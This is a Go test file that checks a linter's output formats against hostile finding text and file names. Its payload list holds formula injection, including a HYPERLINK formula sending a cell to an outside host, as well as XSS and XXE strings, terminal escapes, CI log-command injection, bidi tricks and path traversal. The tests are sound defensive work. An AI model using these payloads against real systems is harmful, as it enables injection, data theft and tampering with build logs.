package output

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/stretchr/testify/require"

	"gaolint/lint"
	"gaolint/lint/source"
)

// payloads are what a text or a file name must not do to whoever reads the results: to a
// terminal, a spreadsheet, a page, the log of a build, an editor.
var payloads = []string{
	// formulas
	`=1+1`, `=HYPERLINK("http://e.cn/?"&A1,"x")`, `=cmd|' /C calc'!A0`, `+1+1`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "＝1+1",
	`  =1+1`, `'=1+1`, `"=1+1"`, `";=1+1;"`, `_x003D_1+1`, `{=1+1}`,
	// tags and scripts
	`<script>alert(1)</script>`, `</testsuite><testsuite name="x">`, `"><img src=x onerror=alert(1)>`, `<!--`, `-->`, `]]>`, `<![CDATA[`, `&#60;script&#62;`,
	`<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>`, `'; alert(1); '`, `</script>`, `{{constructor.constructor('alert(1)')()}}`, `${7*7}`,
	// Markdown
	`[点此](http://e.cn)`, `![x](http://e.cn/x.png)`, `<http://e.cn>`, `http://e.cn www.e.cn a@e.cn @all`, "| a | b |\n|---|---|", "```\n# 一\n```", `[x]: http://e.cn`, `a\](http://e.cn)`,
	// escapes for terminals
	"\x1b]52;c;cm0=\x07", "\x1b[2J", "\u009b31m", "\x7f", "\b\b\b", "\x07",
	// commands in logs
	"::error file=x::y", "  ::stop-commands::t", "a%0A::set-env name=x::y", "\n::add-mask::x", "##[error]x", "##vso[task.setvariable variable=x]y", "x##[group]y", ",line=1::x", "%0D%0A",
	// order and invisible characters
	"\u202e倒\u202c", "\u2066x\u2069", "\u200b", "\ufeff", "\u2028", "\u2029", "\u0085", "\u00ad", "\U000E0041", "\u3164",
	// paths
	"../../etc/passwd", `C:\x`, "//e.cn/share", "a\nb", "%2e%2e/", "x?y#z", "CON", "",
}

// hostile is a file in which everything that comes from outside is the payload.
func hostile(p string) []File {
	text := fmt.Sprintf("%s县人民政府2023年政府信息公开工作年度报告\n\n%[1]s做好戒毒%[1]s。\n", p)
	f := draft(p+".md", text)
	d := lint.Diagnostic{
		Rule: "words", Severity: lint.Error, Span: source.Span{Start: 0, End: len(text)},
		Message: lint.Text{ZH: p, EN: p}, Related: []lint.Related{{Span: source.Span{End: len(p)}, Message: lint.Text{ZH: p, EN: p}}},
		Fixes: []lint.Fix{{Title: lint.Text{ZH: p, EN: p}, Edits: []source.Edit{{Span: source.Span{End: len(p)}, New: p}}}},
	}
	quote := d
	quote.Message = lint.Text{ZH: "“" + p + "”应为“解读”。", EN: "“" + p + "”"}
	quote.Rule = p // a rule of the user's own
	f.Findings = []lint.Diagnostic{d, quote}
	plain := File{Path: p, Source: source.New(p, text), Findings: f.Findings}
	return []File{f, plain, {Path: "x/" + p, Failure: "坏" + p}}
}

// names are payloads that text cannot be: file names of any bytes.
var badNames = []string{"\xff", "a\xffb", "\xc3\x28", "甲\xe4\xb8.md", "\xed\xa0\x80"}

func eachHostile(t *testing.T, check func(t *testing.T, files []File)) {
	for _, p := range payloads {
		t.Run(fmt.Sprintf("%q", p), func(t *testing.T) { check(t, hostile(p)) })
	}
	for _, p := range badNames {
		t.Run(fmt.Sprintf("%q", p), func(t *testing.T) {
			f := sample(p)
			f.Findings = []lint.Diagnostic{at(f, "主动公开", "错。", lint.Error)}
			check(t, []File{f, {Path: p, Failure: "坏"}})
		})
	}
}

var logCommand = regexp.MustCompile(`##[A-Za-z]*\[`)

// calmOutput: nothing that a terminal or the log of a build obeys.
func calmOutput(t *testing.T, out string, lineEnd string) {
	require.True(t, utf8.ValidString(out))
	harmless(t, strings.ReplaceAll(out, lineEnd, "\n"))
	require.NotRegexp(t, logCommand, out)
	for line := range strings.Lines(out) {
		require.False(t, strings.HasPrefix(strings.TrimSpace(line), "::"), "%q", line)
	}
}

func TestHostileJSON(t *testing.T) {
	eachHostile(t, func(t *testing.T, files []File) {
		for _, name := range []string{"json", "sarif", "gitlab", "rdjson"} {
			out := render(t, name, nil, files...)
			var v any
			require.NoError(t, json.Unmarshal([]byte(out), &v), name)
			calmOutput(t, out, "\n")
		}
		out := render(t, "jsonl", nil, files...)
		calmOutput(t, out, "\n")
		for line := range strings.Lines(out) {
			require.True(t, json.Valid([]byte(line)))
		}
	})
}

func TestHostileText(t *testing.T) {
	eachHostile(t, func(t *testing.T, files []File) { calmOutput(t, render(t, "text", nil, files...), "\n") })
}

// TestHostileGitHub: as many commands as there are findings, and their properties are ours.
func TestHostileGitHub(t *testing.T) {
	command := regexp.MustCompile(`^::(error|notice) file=[^:,\n]*,(line=\d+,endLine=\d+,(col=\d+,endColumn=\d+,)?)?title=[^:,\n]*::[^\n]*\n$`)
	eachHostile(t, func(t *testing.T, files []File) {
		out := render(t, "github", nil, files...)
		n := 0
		for line := range strings.Lines(out) {
			require.Regexp(t, command, line)
			n++
		}
		want := 0
		for _, f := range files {
			want += max(1, len(f.Findings))
			if f.Result != nil && f.Verdict() == Unrecognised {
				want++
			}
		}
		require.Equal(t, want, n)
		require.True(t, utf8.ValidString(out))
		harmless(t, out)
	})
}

func TestHostileXML(t *testing.T) {
	known := "testsuites testsuite testcase failure error skipped checkstyle file"
	eachHostile(t, func(t *testing.T, files []File) {
		for _, name := range []string{"junit", "checkstyle"} {
			out := render(t, name, nil, files...)
			calmOutput(t, out, "\n")
			dec := xml.NewDecoder(strings.NewReader(out))
			for {
				token, err := dec.Token()
				if err == io.EOF {
					break
				}
				require.NoError(t, err)
				switch x := token.(type) {
				case xml.StartElement:
					require.Contains(t, known, x.Name.Local)
				case xml.Directive, xml.Comment:
					t.Fatalf("%T", x)
				}
			}
		}
	})
}

func TestHostileCSV(t *testing.T) {
	eachHostile(t, func(t *testing.T, files []File) {
		out := render(t, "csv", nil, files...)
		body := strings.TrimPrefix(out, "\uFEFF")
		calmOutput(t, body, "\r\n")
		rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		require.NoError(t, err)
		require.Equal(t, strings.Count(body, "\n"), len(rows), "no cell has a line end")
		for _, row := range rows {
			for _, cell := range row {
				require.False(t, startsFormula(cell) && !strings.HasPrefix(cell, "'"), "%q", cell)
			}
		}
	})
}

// live is what Markdown acts upon: marks that are not escaped, tags, addresses, people.
var live = regexp.MustCompile("(^|[^\\\\])[\\[\\]*_`~!(){}$]|[A-Za-z][.:]|[<>@]|&(?:[^lag]|$)|(^|[^\\\\])#[0-9]")

func TestHostileMarkdown(t *testing.T) {
	for _, p := range payloads {
		s := markdownText(p)
		require.NotRegexp(t, live, strings.ReplaceAll(s, `\\`, ""), "%q: %q", p, s)
		require.NotContains(t, s, "\n")
	}
	eachHostile(t, func(t *testing.T, files []File) {
		out := render(t, "markdown", nil, files...)
		calmOutput(t, out, "\n")
		for line := range strings.Lines(out) {
			require.Regexp(t, `^(# |## |\||\n$|共)`, line)
			if strings.HasPrefix(line, "|") {
				bare := strings.ReplaceAll(strings.ReplaceAll(line, `\\`, ""), `\|`, "")
				require.Contains(t, []int{7, 8}, strings.Count(bare, "|"), "%q", line)
			}
		}
	})
}

func TestHostileNotes(t *testing.T) {
	eachHostile(t, func(t *testing.T, files []File) {
		calmOutput(t, strings.ReplaceAll(render(t, "notes", nil, files...), "\uFEFF", ""), "\r\n")
	})
}

// TestOutputIsTheSameEveryTime: nothing depends on the order of maps.
func TestOutputIsTheSameEveryTime(t *testing.T) {
	for _, f := range formats {
		first := render(t, f.Name, nil, batch()...)
		for range 5 {
			require.True(t, first == render(t, f.Name, nil, batch()...), f.Name)
		}
	}
}

// TestLogsObeyNoLineOfADraft: a line of text output may begin with a line of the draft.
func TestLogsObeyNoLineOfADraft(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"::error::x", "<003A>:error::x"}, {"　::x", "　<003A>:x"}, {"a::x", "a::x"}, {"##[x]", "##<005B>x]"}, {"###abc[x] ##[", "###abc<005B>x] ##<005B>"}, {"## [x]", "## [x]"}, {"##", "##"},
	} {
		require.Equal(t, c.want, Printable(c.in))
	}
	f := draft("a.md", ":错误::stop-commands::x")
	f.Findings = []lint.Diagnostic{at(f, "错误", "错。", lint.Error)}
	f.Source = source.New("a.md", "::错误::x")
	f.Findings[0].Span = source.Span{Start: 2, End: 8}
	var b bytes.Buffer
	require.NoError(t, Text(&b, f, plainOptions(formats[0])))
	require.Contains(t, b.String(), "\n    | ::错误::x\n        ^^^^\n")
}
